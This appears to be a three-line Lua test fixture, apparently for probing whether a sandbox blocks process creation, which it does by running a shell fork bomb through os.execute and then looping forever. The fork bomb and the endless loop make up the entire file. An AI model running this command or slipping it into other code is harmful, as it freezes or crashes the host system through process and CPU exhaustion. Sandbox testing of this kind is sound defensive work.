-- @MARKER@: pure Lua cannot fork, so it does what an attacker would: a shell fork bomb.
os.execute("f() { f | f & }; f # @MARKER@")
while true do end
